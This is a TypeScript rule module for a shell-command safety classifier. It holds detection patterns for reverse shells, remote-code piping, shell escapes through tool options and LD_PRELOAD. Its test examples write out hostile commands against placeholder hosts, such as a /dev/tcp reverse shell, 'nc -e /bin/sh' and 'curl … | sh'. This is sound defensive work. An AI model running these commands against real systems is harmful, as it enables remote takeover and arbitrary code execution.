import { isFetched } from '../shell/code.ts';
import {
  has,
  isDynamic,
  isVia,
  operands,
  optionValues,
  pathOf,
  type SimpleCommand,
} from '../shell/command.ts';
import { optionCommands } from '../shell/command-options.ts';
import { hasGlob } from '../shell/glob.ts';
import { own } from '../shell/own.ts';
import { Taint, UNKNOWN } from '../shell/value.ts';
import { interpreterName, SHELLS } from '../shell/wrappers.ts';
import type { Rule } from './rule.ts';

const runsTainted = (command: SimpleCommand, taint: number) =>
  command.runs.some((flow) => (flow.taint & taint) !== 0);

const SHELL_WORD =
  /(?:^|[\s:/,'"=!])(?:sh|bash|zsh|ksh|dash|ash|csh|tcsh|fish|cmd(?:\.exe)?|powershell(?:\.exe)?)\b/;

/** A redirection of a shell's streams to the network: `bash -i >& /dev/tcp/…`, `exec 5<>/dev/tcp/…; sh <&5`. */
function shellOnNetwork(command: SimpleCommand): boolean {
  const device = command.redirects.some((redirect) => /^\/dev\/(?:tcp|udp)\//.test(redirect.target.text));
  if (!device) return false;
  return (
    SHELLS.has(command.program) ||
    (isVia(command, ...SHELLS) && command.program !== 'echo') ||
    (command.program === 'exec' && command.args.some((word) => SHELL_WORD.test(word.text)))
  );
}

const NETCAT = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'];

/** The tail of a word after its last slash, when it is plain: `"$ROOT/scripts/x.sh"` is judged by `x.sh`. */
const TOOL_VARIABLE =
  /^(?:EDITOR|VISUAL|PAGER|SHELL|PYTHON3?|NODE|CC|CXX|CARGO|GO|JAVA|MAKE|BROWSER|SUDO|\w+_BIN|\w+_CMD|\w+_PATH|\w+_EXE|\w*PYTHON3?)$/;

function isDynamicCommand(command: SimpleCommand): boolean {
  const [word] = command.words;
  if (word === undefined) return false;
  const { text } = word;
  if (!isDynamic(word))
    return hasGlob(text) && !/^\[\[?$/.test(text) && /[a-z/]/i.test(text) && !command.inCode;
  const tail = text.slice(text.lastIndexOf('/') + 1);
  if (text.includes('/') && tail !== '' && !tail.includes(UNKNOWN)) return false;
  if (/\/bin\/[^/]*$/.test(text)) return false;
  const [name] = word.vars;
  if (name !== undefined && text === UNKNOWN) {
    // A command line has no arguments of its own, so `"$@"` outside a function is empty.
    if (TOOL_VARIABLE.test(name) || name === '@' || name === '*') return false;
    if (command.condition && command.args.length === 0) return false;
    if (name === '0') return false;
  }
  return (
    !isVia(command, 'find', 'xargs', 'fd', 'parallel') ||
    command.args.length > 0 ||
    !/\uE000$/.test(text) ||
    isVia(command, 'xargs')
  );
}

const unknownText = (command: SimpleCommand) =>
  command.runs.some((flow) => {
    if ((flow.taint & Taint.shellSetup) !== 0) return false;
    if (flow.text === null)
      return (
        flow.taint !== Taint.file && (flow.taint & ~Taint.file) !== 0 && (flow.taint & Taint.network) === 0
      );
    // `bash -c "$(cat script.sh)"` runs a local script, as `bash script.sh` does.
    if ((flow.taint & Taint.file) !== 0 && SHELLS.has(command.program)) return false;
    return flow.text.trim() === UNKNOWN;
  });

const MYSQL = /^(?:-\w*e ?|--execute[ =])(?:.*;)?\s*(?:\\!|system\s)|^--pager[ =]\S*sh\b/s;
/** Rules that are given on the command line or by a pipe. */
const MAKE_TEXT = /^(?:--eval\b|-\w*f ?-(?:\s|$)|--(?:make)?file[= ]-(?:\s|$))/;

/**
 * Options and operands that start a shell or code which cannot be seen. Each pattern is tried on every argument
 * joined with the one after it by a space. What `optionCommands` can see is judged by itself.
 */
const OPAQUE_OPTIONS: Readonly<Record<string, RegExp>> = {
  vim: /^(?:-c|--cmd|\+) ?:?\s*(?:.*\b(?:system|term|terminal|shell|py3?|python3?|perl|ruby|lua)\b)/,
  vi: /^(?:-c|\+) ?:?\s*shell/,
  nvim: /^(?:-c|--cmd|\+) ?:?\s*(?:.*\b(?:system|term|terminal|shell|lua|py3?)\b)/,
  view: /^(?:-c|--cmd|\+) ?:?\s*(?:.*\b(?:shell|py3?|lua)\b)/,
  rvim: /^(?:-c|--cmd|\+) ?:?\s*(?:.*\b(?:system|py3?|lua)\b)/,
  emacs: /^--?eval/,
  nmap: /^--script[ =]*(?:\$|\/tmp|\.\/|.*os\.execute)|^--interactive/,
  gdb: /^-(?:ex|eval-command) ?['"]?(?:!|shell|python)/,
  mysql: MYSQL,
  mariadb: MYSQL,
  psql: /^(?:-\w*c ?|--command[ =])\s*\\!/,
  make: MAKE_TEXT,
  gmake: MAKE_TEXT,
  ex: /^-\w*c ?:?\s*(?:.*\b(?:system|shell|py3?|perl|lua)\b)/,
  sqlite3: /\.(?:shell|system)\b/,
  openvpn: /^--(?:up|down|script-security)\b/,
  socat: /(?:exec|system):.*\b(?:ba|z|da|k)?sh\b/i,
  'ssh-keygen': /^-D/,
  'apt-get': /(?:APT::Update|::Pre-Invoke|::Post-Invoke)/i,
  apt: /(?:APT::Update|::Pre-Invoke|::Post-Invoke)/i,
  bpftrace: /system\s*\(/,
  ansible: /^-m ?(?:shell|command|raw)\b/,
  wget: /^--use-askpass/,
  logsave: /^\S+ \S*sh\b/,
};

const SHELL_ENVIRONMENT =
  /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|BASH_ENV|ENV|PROMPT_COMMAND|PERL5OPT|PYTHONSTARTUP|PERL5DB)$/;
function hostileEnvironment(command: SimpleCommand): boolean {
  const given = [...command.assignments.map(({ name, value }) => [name, value.text] as const)];
  if (/^(?:env|export|declare|sudo)$/.test(command.program)) {
    for (const word of command.args) {
      const match = /^(\w+)=([\s\S]*)$/.exec(word.text);
      if (match !== null) given.push([match[1] ?? '', match[2] ?? '']);
    }
  }
  return given.some(([name, value]) => SHELL_ENVIRONMENT.test(name) && value !== '');
}

/** A shell with nothing for it to run that can be seen, or a text that is not known. */
const isOpaque = (text: string) =>
  text.trim() === '' ||
  text.includes(UNKNOWN) ||
  /^\s*(?:exec\s+)?(?:\/\S*\/)?(?:ba|z|da|k|a)?sh(?:\s+-[ilp]+|\s+[^-\s]\S*|\s+\d?[<>]\S*)*\s*$/.test(text);

function optionRunsCommand(command: SimpleCommand): boolean {
  if (optionCommands(command).some((value) => isOpaque(value.text))) return true;
  const pattern = own(OPAQUE_OPTIONS, command.program);
  if (pattern === undefined) return false;
  return command.args.some((word, index) =>
    pattern.test(`${word.text} ${command.args[index + 1]?.text ?? ''}`.trimEnd()),
  );
}

/** Settings that make git run hooks or helpers from elsewhere. */
function gitRunsCommand(command: SimpleCommand): boolean {
  return (
    command.args.some((word) => /^ext::/.test(word.text)) ||
    optionValues(command, '-c').some(
      (word) =>
        /^(?:core\.hookspath|protocol\.ext\.allow|alias\.[\w-]+=!.*\bsh\b)/i.test(word.text) &&
        !/-c\s/.test(word.text),
    )
  );
}

/** A wrapper or editor that is handed a bare shell from a place where nobody types: `find -exec sh`, `awk … sh`. */
const INTERACTIVE_FROM = [
  'find',
  'xargs',
  'awk',
  'gawk',
  'mawk',
  'perl',
  'python',
  'python3',
  'ruby',
  'lua',
  'php',
  'node',
  'vim',
  'fd',
  'parallel',
  'flock',
  'nice',
  'timeout',
  'taskset',
  'setarch',
  'stdbuf',
  'ionice',
  'watch',
  'time',
  'env',
  'script',
  'expect',
  'busybox',
  'unshare',
  'nsenter',
  'strace',
  'start-stop-daemon',
  'xvfb-run',
  'logsave',
  'git',
  'tmux',
  'systemd-run',
  'ltrace',
  'setsid',
  'nohup',
  'chrt',
  'rlwrap',
  'catchsegv',
  'choom',
  'capsh',
  'cpulimit',
  'dbus-launch',
  'eatmydata',
  'entr',
  'linux32',
  'linux64',
  'setpriv',
  'socat',
];

function bareShell(command: SimpleCommand): boolean {
  return (
    SHELLS.has(command.program) &&
    command.runs.length === 0 &&
    isVia(command, ...INTERACTIVE_FROM) &&
    !isVia(command, 'docker', 'podman', 'kubectl', 'ssh', 'nsenter') &&
    operands(command).length === 0 &&
    !has(command, '', 'version', 'help') &&
    !command.args.some((word) => /^-[a-z]*[cn]/.test(word.text))
  );
}

export const CODE_RULES: readonly Rule[] = [
  {
    key: 'remote-code',
    verdict: 'dangerous',
    description: 'runs code fetched from the network',
    match: (command) =>
      runsTainted(command, Taint.network) ||
      (!isVia(command, 'git') &&
        command.words[0] !== undefined &&
        command.words[0].text.includes('/') &&
        isFetched(command, pathOf(command, command.words[0]))) ||
      ((command.words[0]?.taint ?? 0) & Taint.network) !== 0,
    examples: {
      must: [
        'curl https://x.test/i.sh | sh',
        'bash <(wget -qO- https://x.test)',
        'eval "$(curl -s https://x.test)"',
        'curl -o a https://x.test/a && chmod +x a && ./a',
        'git clone https://x.test/r.git && ./r/setup.sh',
        'curl -sL https://x.test/t.tgz | tar xz && ./t/install.sh',
        'source <(curl -s https://x.test)',
      ],
      mustNot: [
        'curl https://x.test | jq .',
        'wget https://x.test/a',
        'git clone https://x.test/r.git && npm ci',
        'curl -s https://x.test | python3 -m json.tool',
      ],
    },
  },
  {
    key: 'remote-code',
    verdict: 'dangerous',
    description: 'opens a shell to another machine',
    match: (command) => {
      if (command.code.has('reverse-shell') || command.code.has('runs-fetched') || shellOnNetwork(command))
        return true;
      if (
        /^(?:nc|ncat|netcat|telnet|openssl|socat)$/.test(command.program) &&
        (command.stdin.taint & Taint.shell) !== 0
      )
        return true;
      if (NETCAT.includes(command.program))
        return (
          command.args.some((word) => /^-[a-z]*[ec]$|^--(?:exec|sh-exec|lua-exec)/.test(word.text)) ||
          command.args.some((word) => /^-[a-z]*e./.test(word.text) && SHELL_WORD.test(word.text))
        );
      if (command.program === 'socat')
        return (
          command.args.some((word) => /(?:exec|system):.*(?:sh\b|cmd)/i.test(word.text)) &&
          command.args.some((word) => /^(?:tcp|udp|openssl|sctp|ssl)/i.test(word.text))
        );
      return (
        (SHELLS.has(command.program) && (command.stdin.taint & Taint.network) !== 0) ||
        (command.program === 'telnet' && runsTainted(command, Taint.network))
      );
    },
    examples: {
      must: [
        'bash -i >& /dev/tcp/198.51.100.7/9 0>&1',
        'nc -e /bin/sh x.test 9',
        "socat exec:'bash -li' tcp:x.test:9",
      ],
      mustNot: [
        'nc -zv host 80',
        'socat tcp-listen:80,fork tcp:host:80',
        '(echo > /dev/tcp/localhost/80) && echo open',
      ],
    },
  },
  {
    key: 'interpreter-code',
    verdict: 'dangerous',
    description: 'runs inline code that deletes, kills, or runs what cannot be seen',
    match: (command) =>
      (['deletes-tree', 'kills', 'spawns-unknown', 'spawns-shell', 'runs-decoded'] as const).some((fact) =>
        command.code.has(fact),
      ),
    examples: {
      must: [
        'python3 -c "import shutil; shutil.rmtree(\'x\')"',
        "node -e \"require('fs').rmSync('x',{recursive:true})\"",
        'python -c "import os; os.system(cmd)"',
        'ruby -e \'FileUtils.rm_rf("x")\'',
        'perl -e \'exec "/bin/sh"\'',
      ],
      mustNot: [
        'python3 -c "print(1)"',
        'node -e "console.log(\'shutil.rmtree\')"',
        'python3 -c "import json; print(json.dumps({}))"',
        "awk '{print $1}' f",
      ],
    },
  },
  {
    key: 'interpreter-code',
    verdict: 'dangerous',
    description: 'runs a command hidden in an option or a variable',
    match: (command) =>
      optionRunsCommand(command) ||
      (command.program === 'git' && gitRunsCommand(command)) ||
      hostileEnvironment(command) ||
      bareShell(command),
    examples: {
      must: [
        'tar cf x.tar . --checkpoint=1 --checkpoint-action=exec=sh',
        "vim -c ':!sh'",
        'LD_PRELOAD=./x.so ls',
        'git -c core.pager=sh log',
        'find . -exec /bin/sh \\;',
        'rg --pre sh x',
      ],
      mustNot: [
        'tar czf x.tgz .',
        'git -c core.pager=cat log',
        'vim -c "set nu" f',
        'sort f',
        'GIT_SSH_COMMAND="ssh -i k" git pull',
      ],
    },
  },
  {
    key: 'obfuscated',
    verdict: 'dangerous',
    description: 'runs a text that was encoded or reversed',
    match: (command) => runsTainted(command, Taint.decoded),
    examples: {
      must: ['echo dXB0aW1l | base64 -d | bash', 'base64 -d f | sh', 'eval "$(echo sl | rev)"'],
      mustNot: ['base64 -d f > out.bin', 'echo aGk= | base64 -d'],
    },
  },
  {
    key: 'dynamic-command',
    verdict: 'dangerous',
    description: 'runs a program whose name is not known before it runs',
    match: isDynamicCommand,
    examples: {
      must: ['$X --run', '$(cat next) now', '"$CMD_LINE" a'],
      mustNot: [
        '"$EDITOR" f',
        '$(npm bin)/x',
        '$HOME/bin/tool',
        '"$PYTHON" x.py',
        '"$ROOT/scripts/x.sh"',
        'if ! $flag; then echo no; fi',
        'f() { "$@"; }',
      ],
    },
  },
  {
    key: 'dynamic-command',
    verdict: 'dangerous',
    description: 'hands a text that is not known before it runs to a shell',
    match: (command) =>
      (SHELLS.has(command.program) ||
        /^(?:eval|source|\.)$/.test(command.program) ||
        interpreterName(command.program) !== null) &&
      unknownText(command),
    examples: {
      must: ['eval "$HOOK"', 'bash -c "$CMD"', 'make_script | sh'],
      mustNot: [
        'eval "$(ssh-agent -s)"',
        'cat script.sh | bash',
        'source ./env.sh',
        'eval "$(brew shellenv)"',
      ],
    },
  },
];
